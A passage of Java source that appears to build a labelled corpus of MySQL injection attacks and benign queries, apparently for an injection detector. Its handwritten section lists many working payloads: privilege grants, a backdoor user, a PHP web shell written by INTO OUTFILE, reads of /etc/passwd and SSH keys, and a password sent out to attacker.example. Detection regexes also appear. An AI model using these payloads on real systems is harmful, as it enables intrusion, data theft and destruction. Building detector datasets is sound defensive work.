      + "(\\d+|'[^']*'?)\\s*(=|<>|!=|>|<|>=|<=|like)\\s*\\(?\\s*(\\d+|'[^']*'?).*");
  private static final Pattern HAS_OR = Pattern.compile("(?is).*(\\bor\\b|\\|\\|).*");
  private static final Pattern SYSTEM = Pattern.compile("(?is).*(information_schema|performance_schema|"
      + "mysql\\.(user|db|tables_priv|columns_priv|proc|general_log|slow_log)|\\bsys\\.|"
      + "@@(version|datadir|basedir|hostname|plugin_dir|secure_file_priv|tmpdir)\\b).*");
  private static final Pattern TAUTOLOGY = Pattern.compile("(?is).*((\\bor\\b|\\|\\|)\\s*\\S|"
      + "having\\s+1\\s*=\\s*1|^\\w*'\\s*[-+&^*]\\s*'|=\\s*0\\s*=\\s*'|^\\s+like\\s+'%').*");
  private static final Pattern COMMENT = Pattern.compile("(?s).*(--(\\s|$)|#|/\\*).*");

  /** The category of a decoded payload, or null if it does nothing worth a category. */
  static String categorise(String p) {
    if (FILE.matcher(p).matches()) {
      return "file-access";
    }
    if (PRIVILEGE.matcher(p).matches()) {
      return "privilege";
    }
    if (ERROR.matcher(p).matches()) {
      return "error-based";
    }
    if (TIME.matcher(p).matches()) {
      return "time-blind";
    }
    if (OBFUSCATION.matcher(p).matches() || hasMixedCaseKeyword(p)) {
      return "obfuscation";
    }
    if (UNION.matcher(p).matches()) {
      return "union";
    }
    if (STACKED.matcher(p).matches()) {
      return "stacked";
    }
    if ((BLIND_FUNCTION.matcher(p).matches() && BLIND_TARGET.matcher(p).matches())
        || (TRUE_FALSE_PROBE.matcher(p).matches() && !HAS_OR.matcher(p).matches())) {
      return "boolean-blind";
    }
    if (SYSTEM.matcher(p).matches()) {
      return "system-probe";
    }
    if (TAUTOLOGY.matcher(p).matches()) {
      return "tautology";
    }
    if (COMMENT.matcher(p).matches()) {
      return "comment-truncation";
    }
    return null;
  }

  private static boolean hasMixedCaseKeyword(String p) {
    var m = MIXED_CASE_KEYWORD.matcher(p);
    while (m.find()) {
      String w = m.group();
      String rest = w.substring(1);
      boolean upperRest = !rest.equals(rest.toLowerCase(Locale.ROOT));
      boolean lowerRest = !rest.equals(rest.toUpperCase(Locale.ROOT));
      if (upperRest && lowerRest) {
        return true;
      }
      if (Character.isLowerCase(w.charAt(0)) && upperRest) {
        return true;
      }
    }
    return false;
  }

  /**
   * Payload lines dropped by hand, keyed by source, with the reason. Rule-based drops (not MySQL, not
   * SQL, no category, no valid splice) are listed in dropped-payloads.tsv as well.
   */
  static final Map<String, String> MANUAL_DROPS = new LinkedHashMap<>();

  static {
    String li = "libinjection_sqli-misc.txt:";
    String fz = "fuzzdb_sqli_detect_xplatform.txt:";
    String pa = "payloadsallthethings/";
    MANUAL_DROPS.put(li + "8", "compares unknown columns (XX=X): an error in MySQL");
    MANUAL_DROPS.put(li + "9", "CHAR(124) USER CHAR(124) is not an expression in MySQL: a syntax error");
    MANUAL_DROPS.put(li + "29", "three payloads concatenated without separators (list artefact)");
    MANUAL_DROPS.put(li + "83", "'?' stands for a NUL byte in this copy of the line (list artefact)");
    MANUAL_DROPS.put(li + "149", "parameter pollution fragment, not a statement part");
    MANUAL_DROPS.put(li + "152", "pgsql/mssql nested comments: MySQL does not nest comments, a syntax error");
    MANUAL_DROPS.put(li + "153", "pgsql/mssql nested comments: MySQL does not nest comments, a syntax error");
    MANUAL_DROPS.put(li + "246", "libinjection notes it is built to force a syntax error (notthere())");
    MANUAL_DROPS.put(li + "250", "unknown column foo: a syntax-error probe");
    MANUAL_DROPS.put(fz + "21", "after the ';' comes '(load_file(…)),1,1,1', not a statement: a syntax error");
    MANUAL_DROPS.put(fz + "23", "'SELECT *' with nothing after it: a fragment");
    MANUAL_DROPS.put(fz + "48", "MSSQL/Informix temp table from the 'select … into temp' payload");
    MANUAL_DROPS.put(fz + "43", "'(||6)': an operator with no left operand, a syntax error");
    MANUAL_DROPS.put(fz + "50", "CSV-quoted artefact (\"a\"\" or …\"), not a payload as sent");
    MANUAL_DROPS.put(fz + "52", "CSV-quoted artefact (\"a\"\" or …\"), not a payload as sent");
    MANUAL_DROPS.put(fz + "87", "CSV-quoted artefact (\"hi\"\") …), not a payload as sent");
    MANUAL_DROPS.put(fz + "137", "EXISTS without a subquery: a syntax error in MySQL");
    MANUAL_DROPS.put(fz + "159", "a SELECT right after a string literal: a syntax error in MySQL");
    MANUAL_DROPS.put(fz + "176", "a comment inside a keyword splits it in MySQL (UNI ON): a syntax error");
    MANUAL_DROPS.put(fz + "185", "MSSQL/Informix 'select … into temp'");
    MANUAL_DROPS.put(pa + "Auth_Bypass.txt:2", "the two quotes only concatenate an empty string: no effect");
    MANUAL_DROPS.put(pa + "Auth_Bypass.txt:12", "the two quotes only concatenate an empty string: no effect");
    MANUAL_DROPS.put(pa + "Auth_Bypass2.txt:102", "two payloads pasted on one line (list artefact)");
    MANUAL_DROPS.put(pa + "Auth_Bypass2.txt:114", "not valid SQL after splicing ('=' 'or' and …)");
    MANUAL_DROPS.put(pa + "Generic_Fuzz.txt:7", "a quote inside a comment: a no-op probe");
    MANUAL_DROPS.put(pa + "Generic_Fuzz.txt:8", "a quote inside an executable comment: a syntax-error probe");
    MANUAL_DROPS.put(pa + "SQLi_Polyglots.txt:2", "a whole statement over some_table, not an input");
  }

  static final class AttackBuilder {
    final Random rnd;
    final List<Template> templates = templates();
    final List<String[]> dropped = new ArrayList<>();

    AttackBuilder(Random rnd) {
      this.rnd = rnd;
    }

    List<String[]> build(Path payloadDir) throws IOException {
      List<Payload> payloads = new ArrayList<>();
      Set<String> seenPayloads = new LinkedHashSet<>();
      for (String file : PAYLOAD_FILES) {
        List<String> lines = readLines(payloadDir.resolve(file));
        for (int i = 0; i < lines.size(); i++) {
          String raw = lines.get(i);
          String source = file + ":" + (i + 1);
          if (raw.isBlank() || raw.startsWith("#")) {
            continue;
          }
          String p = normalise(urlDecode(raw, FORM_ENCODED.contains(file)));
          if (WHOLE_STATEMENT.matcher(p).matches()) {
            p = "1; " + p;
          }
          if (MANUAL_DROPS.containsKey(source)) {
            drop(source, MANUAL_DROPS.get(source), p);
            continue;
          }
          if (!seenPayloads.add(p)) {
            drop(source, "duplicate of an earlier payload after decoding", p);
            continue;
          }
          if (NOT_MYSQL.matcher(p).matches()) {
            drop(source, "not MySQL (MSSQL/Oracle/PostgreSQL/SQLite syntax)", p);
            continue;
          }
          if (NOT_SQL.matcher(p).matches()) {
            drop(source, "not SQL injection (LDAP, XPath, shell, HTML)", p);
            continue;
          }
          if (FRAGMENT.matcher(p).matches()) {
            drop(source, "fragment: ends with a keyword that needs more SQL after it", p);
            continue;
          }
          if (UNION_WITHOUT_SELECT.matcher(p).matches()) {
            drop(source, "UNION without SELECT: a syntax error in MySQL", p);
            continue;
          }
          if (OUTFILE_NOT_LITERAL.matcher(p).matches()) {
            drop(source, "INTO OUTFILE/DUMPFILE takes only a string literal in MySQL: a syntax error", p);
            continue;
          }
          if (TABLE_CONTEXT.matcher(p).matches()) {
            drop(source, "needs a table-name context (… AS INJECTX WHERE 1=1, … WHERE 1=1 AND 1=0); "
                + "no application template takes a table name from input", p);
            continue;
          }
          if (UNKNOWN_COLUMN.matcher(p).matches()) {
            drop(source, "compares unknown bare columns (x=x, a=a): an error in MySQL, not a tautology", p);
            continue;
          }
          String category = categorise(p);
          if (category == null) {
            drop(source, "does nothing when spliced (plain word, fuzz characters, syntax-error probe)", p);
            continue;
          }
          payloads.add(new Payload(source, p, category, null, 2));
        }
      }
      payloads.addAll(HandwrittenAttacks.payloads());

      Map<String, String[]> out = new LinkedHashMap<>();
      for (Payload payload : payloads) {
        List<String> statements = splice(payload);
        if (statements.isEmpty()) {
          if (payload.source().equals("handwritten")) {
            throw new IllegalStateException("handwritten payload does not splice: " + payload.text());
          }
          drop(payload.source(), "no template where it is valid MySQL", payload.text());
          continue;
        }
        for (String sql : statements) {
          out.putIfAbsent(sql, new String[] {payload.category(), payload.source(), sql});
        }
      }
      for (String[] whole : HandwrittenAttacks.statements()) {
        if (!lexicallyValid(whole[1])) {
          throw new IllegalStateException("handwritten statement is not valid: " + whole[1]);
        }
        out.putIfAbsent(whole[1], new String[] {whole[0], "handwritten", whole[1]});
      }
      List<String[]> rows = new ArrayList<>(out.values());
      rows.sort((a, b) -> Integer.compare(CATEGORIES.indexOf(a[0]), CATEGORIES.indexOf(b[0])));
      return rows;
    }

    private void drop(String source, String reason, String payload) {
      dropped.add(new String[] {source, reason, payload});
    }

    List<String> splice(Payload payload) {
      String p = payload.text();
      Shape s = shape(p);
      if (s == null) {
        return List.of();
      }
      Set<Kind> kinds = payload.kinds() != null ? payload.kinds() : KINDS_BY_CATEGORY.get(payload.category());
      if (payload.kinds() == null
          && (UNION.matcher(p).matches() || p.matches("(?is).*into\\s+(out|dump)file.*"))) {
        // UNION and INTO OUTFILE only make sense in a SELECT.
        kinds = EnumSet.copyOf(kinds);
        kinds.retainAll(EnumSet.of(Kind.SELECT_WHERE, Kind.LOGIN, Kind.LIKE, Kind.LIMIT));
      }
      Map<Kind, List<String>> byKind = new EnumMap<>(Kind.class);
      for (Template t : templates) {
        if (!kinds.contains(t.kind()) || !fits(t, s, p, payload.category())) {
          continue;
        }
        String sql = fill(t, s, p);
        boolean codeTail = !t.after().replaceAll("^[\"')\\s]*", "").isEmpty();
        if (!s.endsInComment() && !s.endsInString()
            && (!lexicallyValid(sql) || (codeTail && STATEMENT_LEVEL.contains(payload.category())))) {
          sql = fill(t, s, p + (p.endsWith(" ") ? "-- -" : " -- -"));
        }
        if (lexicallyValid(sql)) {
          byKind.computeIfAbsent(t.kind(), k -> new ArrayList<>()).add(sql);
        }
      }
      List<Kind> order = new ArrayList<>(byKind.keySet());
      Collections.shuffle(order, rnd);
      for (List<String> list : byKind.values()) {
        Collections.shuffle(list, rnd);
      }
      List<String> chosen = new ArrayList<>();
      for (int round = 0; chosen.size() < payload.perPayload() && round < 8; round++) {
        for (Kind k : order) {
          List<String> list = byKind.get(k);
          if (round < list.size() && chosen.size() < payload.perPayload()) {
            chosen.add(list.get(round));
          }
        }
      }
      return chosen;
    }

    private static boolean fits(Template t, Shape s, String p, String category) {
      if (t.quote() != s.quote()) {
        return false;
      }
      if (s.leadingComma() && !(t.kind() == Kind.ORDER_BY && t.quote() == '\0')) {
        return false;
      }
      if (t.kind() == Kind.INSERT && s.depth() >= 1 && !s.closesCleanly()) {
        return false;
      }
      if (t.kind() == Kind.LIMIT && !p.matches("(?is)\\s*\\d*\\s*(into|procedure)\\b.*")) {
        return false;
      }
      if (t.kind() == Kind.ORDER_BY && t.quote() == '\0' && !s.leadingComma()
          && !p.matches("(?is)\\s*(\\(|\\w+\\s*\\(|\\d|(and|or|rlike|&&|\\|\\|)\\b).*")) {
        return false;
      }
      if (t.depth() == s.depth()) {
        if (s.depth() >= 1 && t.kind() == Kind.INSERT) {
          return t.trailingValues() == s.extraValues();
        }
        return s.extraValues() == 0;
      }
      return t.depth() > s.depth() && EXPRESSION_CATEGORIES.contains(category) && s.endsInString()
          && s.extraValues() == 0;
    }

    private static String fill(Template t, Shape s, String p) {
      String value = p;
      if (t.quote() == '\0') {
        var m = BARE_IDENTIFIER.matcher(p);
        if (m.lookingAt() && !APPEND_KEYWORD.matcher(p).matches() && !p.matches("(?is)[a-z_]+\\s*\\(.*")) {
          value = t.defaultValue() + p.substring(m.end());
        } else if (s.appends()) {
          boolean needsSpace = !p.isEmpty() && Character.isLetter(p.charAt(0));
          value = t.defaultValue() + (needsSpace ? " " : "") + p;
        }
      }
      String after = t.after();
      if (s.endsInComment() && value.endsWith("--") && !after.isEmpty()
          && !Character.isWhitespace(after.charAt(0))) {
        value = value + " -";
      }
      return t.before() + value + after;
    }
  }

  /** Typographic quotes and dashes (copy-paste damage in the lists) become the ASCII ones MySQL reads. */
  static String normalise(String p) {
    return p.replace('\u2018', '\'').replace('\u2019', '\'').replace('\u2032', '\'')
        .replace('\u201c', '"').replace('\u201d', '"').replace("\u2013", "--")
        .replace("<filepath>", "/etc/passwd");
  }

  // ---------------------------------------------------------------------------------------------
  // Handwritten attacks: categories the public lists cover thinly.

  static final class HandwrittenAttacks {
    private HandwrittenAttacks() {}

    static List<Payload> payloads() {
      List<Payload> out = new ArrayList<>();
      add(out, "stacked",
          "'; SELECT * FROM users; -- ",
          "1; SELECT username, password FROM users",
          "1; UPDATE users SET role = 'admin' WHERE username = 'mallory'",
          "'; INSERT INTO users (username, password, role) VALUES ('mallory', 'x', 'admin'); -- ",
          "'; DELETE FROM audit_log; -- ",
          "1; DELETE FROM sessions",
          "1; UPDATE accounts SET balance = 1000000 WHERE id = 7",
          "'; SHOW TABLES; -- ",
          "1; SELECT @@version",
          "'); UPDATE products SET price = 0.01; -- ",
          "1; SET @a = (SELECT password FROM users LIMIT 1)",
          "'; HANDLER users OPEN; HANDLER users READ FIRST; -- ",
          "1; PREPARE s FROM 'SELECT * FROM users'; EXECUTE s",
          "'; REPLACE INTO users (id, role) VALUES (1, 'admin'); -- ",
          "1; INSERT INTO admins (user_id) VALUES (42)",
          "1;SELECT * FROM orders",
          "'; SELECT LAST_INSERT_ID(); -- ",
          "1; RENAME TABLE users TO users_old",
          "'; CALL reset_password('admin', 'owned'); -- ",
          "1; SELECT * FROM credit_cards WHERE 1 = 1");
      add(out, "privilege",
          "'; GRANT ALL PRIVILEGES ON *.* TO 'mallory'@'%'; -- ",
          "1; CREATE USER 'backdoor'@'%' IDENTIFIED BY 'P@ssw0rd'",
          "'; ALTER USER 'root'@'localhost' IDENTIFIED BY 'owned'; -- ",
          "'; SET PASSWORD FOR 'app'@'%' = 'owned'; -- ",
          "1; SET GLOBAL general_log = 'ON'",
          "1; SET GLOBAL general_log_file = '/var/www/html/shell.php'",
          "'; SET GLOBAL local_infile = 1; -- ",
          "1; INSTALL PLUGIN auth_socket SONAME 'auth_socket.so'",
          "'; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'; -- ",
          "1; DROP TABLE users",
          "'; DROP TABLE orders; -- ",
          "1; DROP DATABASE shop",
          "'; TRUNCATE TABLE audit_log; -- ",
          "1; TRUNCATE payments",
          "'; GRANT FILE ON *.* TO 'app'@'%'; -- ",
          "1; FLUSH PRIVILEGES",
          "'; DROP USER 'audit'@'%'; -- ",
          "1; SET GLOBAL read_only = 0",
          "1; SET GLOBAL max_connections = 1",
          "1; UPDATE mysql.user SET authentication_string = '' WHERE user = 'root'; FLUSH PRIVILEGES",
          "'; SHUTDOWN; -- ");
      addKinds(out, "privilege", EnumSet.of(Kind.UPDATE_SET),
          "', role = 'admin' WHERE username = 'mallory' -- ",
          "', is_admin = 1 -- ",
          "admin', password = MD5('owned') WHERE id = 1 -- ");
      add(out, "file-access",
          "' UNION SELECT LOAD_FILE('/etc/passwd'), NULL -- ",
          "' AND LOAD_FILE('/etc/passwd') IS NOT NULL -- ",
          "1 UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/c.php'",
          "' UNION SELECT 1, 2 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so' -- ",
          "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE tmp_import",
          "1; LOAD DATA LOCAL INFILE '/home/app/.ssh/id_rsa' INTO TABLE notes",
          "' OR LOAD_FILE(0x2f6574632f706173737764) LIKE '%root%' -- ",
          "1 AND ORD(MID(LOAD_FILE('/etc/mysql/my.cnf'), 1, 1)) > 64",
          "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), "
              + "'.attacker.example\\\\x')) -- ",
          "1 INTO OUTFILE '/tmp/orders.csv'",
          "' INTO OUTFILE '/var/lib/mysql-files/dump.txt' FIELDS TERMINATED BY ',' -- ",
          "1 UNION SELECT table_name, NULL FROM information_schema.tables INTO OUTFILE '/tmp/t.txt'",
          "'; SELECT * FROM users INTO OUTFILE '/tmp/users.txt'; -- ",
          "1; SELECT LOAD_FILE('/var/lib/mysql-files/secret.txt')",
          "' AND (SELECT LOAD_FILE('/root/.bash_history')) IS NOT NULL -- ",
          "1; LOAD XML INFILE '/tmp/x.xml' INTO TABLE users");
      addKinds(out, "file-access", EnumSet.of(Kind.LIMIT),
          "10 INTO OUTFILE '/var/www/html/out.txt'",
          "1 INTO DUMPFILE '/tmp/row.bin'");
      add(out, "system-probe",
          "' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 -- ",
          "' OR EXISTS(SELECT 1 FROM mysql.user WHERE user = 'root') -- ",
          "1 AND (SELECT COUNT(*) FROM mysql.user) > 0",
          "' AND 1 = (SELECT COUNT(*) FROM information_schema.columns WHERE table_name = 'users' "
              + "AND column_name = 'password') -- ",
          "1 AND EXISTS(SELECT * FROM performance_schema.threads)",
          "' AND (SELECT COUNT(*) FROM sys.session) > 0 -- ",
          "1 AND (SELECT 1 FROM information_schema.schemata WHERE schema_name = 'mysql') = 1",
          "' AND (SELECT COUNT(*) FROM information_schema.processlist) > 1 -- ",
          "1 AND (SELECT COUNT(*) FROM mysql.db WHERE db = 'shop') > 0",
          "' OR (SELECT COUNT(*) FROM information_schema.user_privileges WHERE privilege_type = 'FILE') > 0 -- ",
          "1 AND (SELECT COUNT(*) FROM performance_schema.accounts) > 0",
          "' AND EXISTS(SELECT * FROM sys.user_summary) -- ",
          "' AND (SELECT @@datadir) IS NOT NULL -- ",
          "1 AND (SELECT COUNT(*) FROM mysql.general_log) >= 0",
          "' AND (SELECT grantee FROM information_schema.schema_privileges LIMIT 1) IS NOT NULL -- ",
          "1 AND (SELECT host FROM mysql.user LIMIT 1) = 'localhost'",
          "1 AND 1 IN (SELECT 1 FROM information_schema.innodb_trx)",
          "1 AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = DATABASE()) > 10",
          "' OR (SELECT COUNT(*) FROM performance_schema.events_statements_current) > 0 -- ",
          "1 AND (SELECT @@secure_file_priv) IS NULL");
      add(out, "boolean-blind",
          "' AND SUBSTRING(database(), 1, 1) = 's' -- ",
          "1 AND ASCII(SUBSTRING(user(), 1, 1)) > 100",
          "' AND ORD(MID(version(), 1, 1)) = 56 -- ",
          "1 AND IF(SUBSTR(@@version, 1, 1) = '8', 1, 0)",
          "' AND (SELECT CASE WHEN (SUBSTRING(current_user(), 1, 4) = 'root') THEN 1 ELSE 0 END) = 1 -- ",
          "1 AND LENGTH(database()) = 4",
          "' AND MID(@@hostname, 1, 1) = 'd' -- ",
          "1 AND (SELECT ASCII(SUBSTRING(password, 1, 1)) FROM users WHERE username = 'admin') > 77",
          "' AND LEFT(schema(), 2) = 'sh' -- ",
          "1 AND STRCMP(SUBSTRING(version(), 1, 1), '8') = 0",
          "1 AND ELT(ASCII(SUBSTRING(user(), 1, 1)) > 96, 1)",
          "' AND BIT_LENGTH(database()) > 32 -- ",
          "1 AND SUBSTRING(@@version_comment, 1, 5) = 'MySQL'",
          "' OR IF(MID(user(), 1, 1) = 'r', 1, 0) -- ",
          "1 AND (SELECT SUBSTRING(GROUP_CONCAT(username), 1, 1) FROM users) = 'a'",
          "' AND HEX(MID(database(), 1, 1)) = '73' -- ",
          "1 AND 1 = (SELECT IF(LOCATE('root', user()) > 0, 1, 0))",
          "' AND 'a' = 'a' AND ASCII(SUBSTRING((SELECT email FROM users LIMIT 1), 1, 1)) < 128 -- ");
      addKinds(out, "boolean-blind", EnumSet.of(Kind.ORDER_BY),
          "(CASE WHEN (ASCII(MID(database(), 1, 1)) > 100) THEN id ELSE price END)",
          "IF(SUBSTRING(user(), 1, 1) = 'r', name, price)",
          "(SELECT IF(SUBSTRING(@@version, 1, 1) = '8', 1, (SELECT 1 UNION SELECT 2)))");
      add(out, "error-based",
          "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) -- ",
          "1 AND UPDATEXML(1, CONCAT(0x7e, (SELECT user())), 1)",
          "' AND EXP(~(SELECT * FROM (SELECT user()) x)) -- ",
          "1 AND GTID_SUBSET(CONCAT(0x7e, (SELECT database()), 0x7e), 1)",
          "' AND (SELECT * FROM (SELECT NAME_CONST(version(), 1), NAME_CONST(version(), 1)) a) -- ",
          "1 AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x "
              + "FROM information_schema.tables GROUP BY x) a)",
          "' OR (SELECT 1 FROM (SELECT COUNT(*), CONCAT(0x3a, (SELECT password FROM users LIMIT 1), 0x3a, "
              + "FLOOR(RAND(0)*2)) x FROM users GROUP BY x) y) -- ",
          "1 AND POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version) f) x))",
          "' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e, user())) USING utf8mb4))) -- ",
          "1 AND EXTRACTVALUE(RAND(), CONCAT(0x3a, (SELECT table_name FROM information_schema.tables "
              + "WHERE table_schema = DATABASE() LIMIT 1)))",
          "1 AND ST_LatFromGeoHash(version())",
          "' AND ST_PointFromGeoHash(user(), 1) -- ",
          "1 AND !(SELECT * FROM (SELECT user()) x) - ~0",
          "' AND MULTIPOINT((SELECT * FROM (SELECT * FROM (SELECT user()) a) b)) -- ",
          "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT * FROM (SELECT version()) a) b))",
          "' AND ROW(1, 1) > (SELECT COUNT(*), CONCAT(user(), 0x3a, FLOOR(RAND(0)*2)) x "
              + "FROM information_schema.character_sets GROUP BY x) -- ",
          "1 AND UUID_TO_BIN(version())",
          "' AND GTID_SUBTRACT(user(), 1) -- ",
          "' AND UPDATEXML(NULL, CONCAT(0x2e, (SELECT password FROM users WHERE id = 1)), NULL) -- ",
          "1 OR EXTRACTVALUE(0x0a, CONCAT(0x0a, (SELECT GROUP_CONCAT(table_name) FROM "
              + "information_schema.tables WHERE table_schema = DATABASE())))");
      addKinds(out, "error-based", EnumSet.of(Kind.LIMIT),
          "1 PROCEDURE ANALYSE(EXTRACTVALUE(1, CONCAT(0x3a, version())), 1)",
          "10 PROCEDURE ANALYSE(EXTRACTVALUE(RAND(), CONCAT(0x3a, (SELECT user()))), 1)");
      add(out, "time-blind",
          "' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, "
              + "information_schema.columns C) > 0 -- ",
          "1 AND (SELECT COUNT(*) FROM mysql.help_topic a, mysql.help_topic b, mysql.help_topic c) > 0",
          "' AND GET_LOCK('aegis', 10) -- ",
          "1 RLIKE SLEEP(5)",
          "1 AND ELT(1, SLEEP(5))",
          "1 AND (SELECT 1 FROM (SELECT SLEEP(5)) x)",
          "'XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'",
          "'; DO SLEEP(5); -- ",
          "1 AND IF(ASCII(SUBSTRING(database(), 1, 1)) > 100, SLEEP(5), 0)",
          "' OR IF(1 = 1, BENCHMARK(5000000, SHA1('x')), 0) -- ");
      addKinds(out, "time-blind", EnumSet.of(Kind.LIMIT),
          "1 PROCEDURE ANALYSE((SELECT EXTRACTVALUE(1, CONCAT(0x7e, IF(1 = 1, SLEEP(5), 1)))), 1)");
      add(out, "obfuscation",
          "'/*!50000UNION*//*!50000SELECT*/ username, password FROM users -- ",
          "1 /*!UNION*/ /*!SELECT*/ 1, 2, 3",
          "' UnIoN SeLeCt NULL, CONCAT(username, 0x3a, password) FROM users -- ",
          "1\u000bUNION\u000bSELECT\u000b1,2",
          "1\tOR\t1=1",
          "'\nOR\n1=1\n-- ",
          "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users",
          "' OR username = CHAR(97,100,109,105,110) -- ",
          "' OR username = 0x61646d696e -- ",
          "'/**/OR/**/1/**/=/**/1 -- ",
          "1 /*!12345AND*/ 1=1",
          "1 UNION(SELECT(username),(password)FROM(users))",
          "1 uNiOn aLl sElEcT 1, @@vErSiOn",
          "' OR 1=1 /*!50000AND*/ '1'='1",
          "1e0UNION SELECT 1, 2",
          "1.0UNION SELECT username, password FROM users",
          "'-- \nUNION SELECT 1, 2 -- ",
          "' OR _utf8mb4'a' = _utf8mb4'a' -- ",
          "' OR b'1' = b'1' -- ",
          "' OR X'61' = 'a' -- ",
          "1 AND CONCAT(CHAR(115), CHAR(104), CHAR(111), CHAR(112)) = DATABASE()",
          "1 /*!00000UNION*/ /*!00000ALL*/ /*!00000SELECT*/ 1, 2",
          "' /*!50000or*/ 1=1 -- ",
          "1\rUNION\rSELECT 1, 2",
          "1\fUNION SELECT 1, 2",
          "' oR 1 /*!50000LIKE*/ 1 -- ",
          "' OR 1=1 --\t",
          "1 AND password = UNHEX('7365637265742D70617373')");
      return out;
    }

    static List<String[]> statements() {
      return List.of(
          new String[] {"stacked", "SELECT * FROM products WHERE id = 42; SELECT * FROM users"},
          new String[] {"privilege",
              "SELECT * FROM orders WHERE id = 1001; GRANT ALL ON *.* TO 'x'@'%' IDENTIFIED BY 'x'"},
          new String[] {"file-access",
              "SELECT id, title FROM posts WHERE id = -1 UNION SELECT 1, LOAD_FILE('/etc/hosts')"});
    }

    private static void add(List<Payload> out, String category, String... payloads) {
      for (String p : payloads) {
        out.add(new Payload("handwritten", p, category, null, 3));
      }
    }

    private static void addKinds(List<Payload> out, String category, Set<Kind> kinds, String... payloads) {
      for (String p : payloads) {
        out.add(new Payload("handwritten", p, category, kinds, 3));
      }
    }
  }

  // ---------------------------------------------------------------------------------------------
  // Benign statements

  static final class BenignBuilder {
    final Random rnd;
    final List<String> searchTerms;
    boolean doubledQuotes;

    BenignBuilder(Random rnd, List<String> searchTerms) {
      this.rnd = rnd;
      this.searchTerms = searchTerms;
    }

    List<String[]> build() {
      Map<String, String[]> out = new LinkedHashMap<>();
      generate(out, "hibernate", 600, this::hibernate);
      generate(out, "spring-data", 450, this::springData);
      generate(out, "jooq", 420, this::jooq);
      generate(out, "mybatis", 450, this::mybatis);
      generate(out, "flyway", 320, this::flyway);
      generate(out, "reporting", 380, this::reporting);
      generate(out, "admin-tooling", 220, this::adminTooling);
      generate(out, "handwritten-app", 600, this::handwrittenApp);
      for (String term : searchTerms) {
        String sql = searchStatement(term);
        out.putIfAbsent(sql, new String[] {"handwritten-app", sql});
      }
      for (String[] row : out.values()) {
        if (!lexicallyValid(row[1])) {
          throw new IllegalStateException("benign statement is not lexically valid: " + row[1]);
        }
      }
      return new ArrayList<>(out.values());
    }

    private void generate(Map<String, String[]> out, String family, int target, Supplier<String> gen) {
      int made = 0;
      for (int attempt = 0; made < target && attempt < target * 30; attempt++) {
        doubledQuotes = rnd.nextInt(3) == 0;
        String sql = gen.get();
        if (out.putIfAbsent(sql, new String[] {family, sql}) == null) {
          made++;
        }
      }
    }

    // --- values ------------------------------------------------------------------------------

    <T> T pick(List<T> list) {
      return list.get(rnd.nextInt(list.size()));
    }

    String pick(String... values) {
      return values[rnd.nextInt(values.length)];
    }

    /** A MySQL string literal, escaped as Connector/J or a careful hand would. */
    String q(String value) {
      StringBuilder b = new StringBuilder("'");
      for (int i = 0; i < value.length(); i++) {
        char c = value.charAt(i);
        switch (c) {
          case '\'' -> b.append(doubledQuotes ? "''" : "\\'");
          case '\\' -> b.append("\\\\");
          case '\n' -> b.append("\\n");
          case '\r' -> b.append("\\r");
          case '\0' -> b.append("\\0");
          case '\u001a' -> b.append("\\Z");
          default -> b.append(c);
        }
      }
      return b.append('\'').toString();
    }

    static final List<String> FIRST = List.of("Anna", "Ben", "Chloé", "David", "Émilie", "Farid", "Grace",
        "Hiroshi", "Ingrid", "José", "Kwame", "Léa", "Mateo", "Ngozi", "Oskar", "Priya", "Quentin", "Rosa",
        "Siobhán", "Tomasz", "Ulla", "Vikram", "Wei", "Ximena", "Yusuf", "Zoë", "Łukasz", "Aoife", "Dmitri",
        "Fatima", "Björn", "Mei", "Nguyễn", "Sven", "Amélie");
    static final List<String> LAST = List.of("O'Reilly", "O'Brien", "D'Angelo", "Müller", "Smith", "García",
        "Nakamura", "Kowalski", "Dubois", "Okafor", "Johansson", "Rossi", "Patel", "Chen", "Ivanova",
        "Ólafsdóttir", "van der Berg", "N'Diaye", "McDonald", "Lefèvre", "Schröder", "山田", "Иванов",
        "Al-Sayed", "da Silva", "L'Héritier", "Fitzgerald", "Østergaard", "Nuñez", "Brown");
    static final List<String> DOMAINS = List.of("example.com", "example.org", "mail.example.net", "shop.example",
        "exämple.de", "corp.example.co.uk");
    static final List<String> CITIES = List.of("Lyon", "München", "Zürich", "São Paulo", "Kraków", "Reykjavík",
        "Dublin", "Montréal", "Québec", "Köln", "Sevilla", "Tōkyō", "Oslo", "L'Aquila", "Coeur d'Alene",
        "Porto", "Gdańsk", "Wrocław", "Cork", "Nice");
    static final List<String> PRODUCTS = List.of("Espresso Machine", "Desk Lamp", "Wool Scarf",
        "Kid's Rain Boots", "USB-C Cable 2m", "Chef's Knife 8\"", "Notebook A5; dotted", "Tea -- Earl Grey",
        "Mug /* limited */ edition", "Drop Table Lamp", "Union Jack Flag", "Select Blend Coffee",
        "O'Neill Surf Wetsuit", "Café Crème Pods", "Plant Pot (12 cm)", "Backpack 30L", "Socks 3-pack",
        "Yoga Mat #2", "Puzzle 1000 pcs", "Sleep Mask", "Benchmark Scale 5kg", "Grant's Whisky Glass");
    static final List<String> COMMENT_BODIES = List.of(
        "Great post -- thanks for sharing!",
        "I tried `SELECT * FROM users; DROP TABLE users;` on my test box and your app escaped it. Nice.",
        "Use /* comments */ sparingly in SQL files.",
        "1=1 is always true, so OR 1=1 is the classic injection; glad you parametrise.",
        "The UNION SELECT trick is explained in chapter 4 of the book.",
        "It's O'Reilly's book; see page 42.",
        "Don't forget the semicolon; it matters.",
        "He said \"hi\" and left.",
        "Path is C:\\Users\\anna\\Documents\\report.xlsx",
        "What about ' OR '1'='1 ? lol, that's what my pentest teacher typed.",
        "-- not a comment, just a dash dash",
        "# hashtag #blessed",
